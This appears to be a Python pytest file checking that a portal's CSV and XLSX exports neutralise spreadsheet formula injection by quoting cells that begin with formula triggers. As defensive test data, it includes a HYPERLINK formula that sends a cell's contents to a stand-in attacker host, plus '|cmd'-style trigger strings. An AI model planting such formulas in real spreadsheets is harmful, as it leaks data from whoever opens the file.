"""No cell of a file the portal writes is a formula (OWASP CSV injection): a text cell that begins
with = + - @ tab or carriage return gets a leading quote, and XLSX text cells are strings."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.exports import csv_bytes, unguard, xlsx_bytes

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def read_xlsx(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[cell for cell in row] for row in sheet.iter_rows()]


def read_csv(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_text_cell_starting_a_formula_is_written_as_quoted_text(trigger):
    value = f"{trigger}1+1|cmd"
    rows = [["name", "count"], [value, 3]]

    (header, (cell, number)) = read_xlsx(xlsx_bytes([("t", rows)]))
    # (XML reads a carriage return back as a newline.)
    assert cell.data_type == "s" and cell.value == "'" + value.replace("\r", "\n")
    assert number.data_type == "n" and number.value == 3

    assert read_csv(csv_bytes(rows))[1] == ["'" + value, "3"]
    assert unguard("'" + value) == value


def test_the_issues_hyperlink_is_text_in_both_formats():
    rows = [["网格"], [HYPERLINK]]
    ((_,), (cell,)) = read_xlsx(xlsx_bytes([("t", rows)]))
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK
    assert read_csv(csv_bytes(rows))[1] == ["'" + HYPERLINK]


def test_ordinary_text_and_plain_numbers_are_unchanged():
    rows = [["a"], ["京口路社区"], ["-3"], ["+1.5"], [-2.5], ["2026-01-01"], ["a=b"]]
    assert [r[0] for r in read_csv(csv_bytes(rows))] == [
        "a",
        "京口路社区",
        "-3",
        "+1.5",
        "-2.5",
        "2026-01-01",
        "a=b",
    ]
    cells = [r[0] for r in read_xlsx(xlsx_bytes([("t", rows)]))]
    assert [c.value for c in cells] == ["a", "京口路社区", "-3", "+1.5", -2.5, "2026-01-01", "a=b"]
    assert all(c.data_type in ("s", "n") for c in cells)
